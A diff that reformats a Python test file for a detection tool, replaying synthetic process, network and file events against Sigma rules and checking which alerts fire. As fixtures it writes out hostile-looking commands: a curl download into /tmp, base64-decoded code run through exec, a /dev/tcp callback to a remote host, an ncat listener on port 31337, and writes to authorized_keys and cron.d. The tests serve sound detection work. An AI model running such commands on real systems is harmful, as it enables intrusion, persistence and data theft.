@@ -27,8 +27,13 @@ def replay_sigma(s: EventStream, tmp_path: Path) -> list[dict[str, Any]]:
     s.write_recording(tmp_path / "events.cwrec", HOST_META)
     out = tmp_path / "alerts.jsonl"
     sigma = [arg for d in SIGMA_DIRS for arg in ("--sigma", str(d))]
-    proc = subprocess.run([sys.executable, "-m", "agent", "replay", str(tmp_path / "events.cwrec"), "--alerts",
-                           str(out), *sigma], cwd=ROOT, capture_output=True, text=True, timeout=60)
+    proc = subprocess.run(
+        [sys.executable, "-m", "agent", "replay", str(tmp_path / "events.cwrec"), "--alerts", str(out), *sigma],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
     assert proc.returncode == 0, proc.stderr
     assert '"sigma_rules_unsupported"' not in proc.stderr, proc.stderr
     assert '"exec": ' in proc.stderr  # the replay_done line: the events reached the pipeline
@@ -37,8 +42,9 @@ def replay_sigma(s: EventStream, tmp_path: Path) -> list[dict[str, Any]]:
 
 def sigma_hits(alerts: list[dict[str, Any]]) -> dict[int, set[str]]:
     """pid -> the Sigma rule names in that process's alerts."""
-    sigma_names = {path.read_text().split("\n", 1)[0].removeprefix("title: ")
-                   for d in SIGMA_DIRS for path in d.glob("*.yml")}
+    sigma_names = {
+        path.read_text().split("\n", 1)[0].removeprefix("title: ") for d in SIGMA_DIRS for path in d.glob("*.yml")
+    }
     out: dict[int, set[str]] = {}
     for a in alerts:
         names = set(a["chainwatch"]["rules"]) & sigma_names
@@ -81,8 +87,9 @@ def test_process_creation_rules_positive_and_negative(tmp_path: Path) -> None:
     s.spawn(200, 100, "/usr/bin/bash", ("bash", "build.sh"), t=1)
     s.spawn(300, 200, "/usr/bin/curl", ("curl", "-o", "/tmp/x", "http://198.51.100.2/x"), t=2)
     s.spawn(301, 200, "/usr/bin/curl", ("curl", "-o", "/var/cache/x", "http://198.51.100.2/x"), t=2.1)
-    s.spawn(310, 200, "/usr/bin/python3.11", ("python3.11", "-c", f"import base64;exec(base64.b64decode('{encoded}'))"),
-            t=3)
+    s.spawn(
+        310, 200, "/usr/bin/python3.11", ("python3.11", "-c", f"import base64;exec(base64.b64decode('{encoded}'))"), t=3
+    )
     s.spawn(311, 200, "/usr/bin/python3", ("python3", "-c", "import base64;print(base64.b64decode('bHM='))"), t=3.1)
     s.spawn(320, 200, "/usr/bin/sh", ("sh", "-c", f"echo hi > /dev/tcp/{REMOTE}/80"), t=4)
     s.spawn(321, 200, "/usr/bin/sh", ("sh", "-c", "WAITFOR=db; echo > /dev/tcp/db/5432"), t=4.1)
@@ -104,16 +111,18 @@ def test_network_connection_rules_positive_and_negative(tmp_path: Path) -> None:
     s.spawn(400, 100, "/usr/bin/python3", ("python3", "client.py"), t=1)
     s.connect(400, "203.0.113.7", 8443, t=1.1)
     s.spawn(401, 100, "/usr/bin/python3", ("python3", "client.py"), t=2)
-    s.connect(401, "203.0.113.7", 50000, t=2.1)   # the ephemeral-port filter
+    s.connect(401, "203.0.113.7", 50000, t=2.1)  # the ephemeral-port filter
     s.spawn(402, 100, "/usr/bin/python3", ("python3", "client.py"), t=3)
-    s.connect(402, "198.51.100.7", 8443, t=3.1)   # outside the cidr
+    s.connect(402, "198.51.100.7", 8443, t=3.1)  # outside the cidr
     s.spawn(410, 100, "/usr/bin/ncat", ("ncat", "-l", "31337"), t=4)
     s.accept(410, "203.0.113.5", 50001, 31337, t=4.1)
     s.spawn(411, 100, "/usr/sbin/nginx", ("nginx",), t=5)
     s.accept(411, "203.0.113.5", 50002, 443, t=5.1)
     alerts = replay_sigma(s, tmp_path)
-    assert sigma_hits(alerts) == {400: {"Test - python connects out to a high port in 203.0.113.0/24"},
-                                  410: {"Test - inbound connection on 31337"}}
+    assert sigma_hits(alerts) == {
+        400: {"Test - python connects out to a high port in 203.0.113.0/24"},
+        410: {"Test - inbound connection on 31337"},
+    }
     [inbound] = [a for a in alerts if a["process"]["pid"] == 410]
     assert "destination" not in inbound  # outbound only; the reason names the peer
     assert "203.0.113.5:50001" in inbound["event"]["reason"]
@@ -133,10 +142,14 @@ def test_file_event_rules_and_escalation_with_a_c2_signal(tmp_path: Path) -> Non
     s.file_write(520, "/root/.ssh/authorized_keys", t=4.1)
     alerts = replay_sigma(s, tmp_path)
     hits = sigma_hits(alerts)
-    assert hits == {500: {"Test - python connects out to a high port in 203.0.113.0/24"},
-                    501: {"Test - python connects out to a high port in 203.0.113.0/24",
-                          "Test - a cron.d entry written by something other than the package manager"},
-                    520: {"Test - authorized_keys written (file_create logsource)"}}
+    assert hits == {
+        500: {"Test - python connects out to a high port in 203.0.113.0/24"},
+        501: {
+            "Test - python connects out to a high port in 203.0.113.0/24",
+            "Test - a cron.d entry written by something other than the package manager",
+        },
+        520: {"Test - authorized_keys written (file_create logsource)"},
+    }
     chain = [a for a in alerts if a["process"]["pid"] in (500, 501)]
     assert len({a["chainwatch"]["incident"]["id"] for a in chain}) == 1
     assert [a["event"]["severity"] for a in chain][0] == 47 and chain[-1]["event"]["severity"] == 99
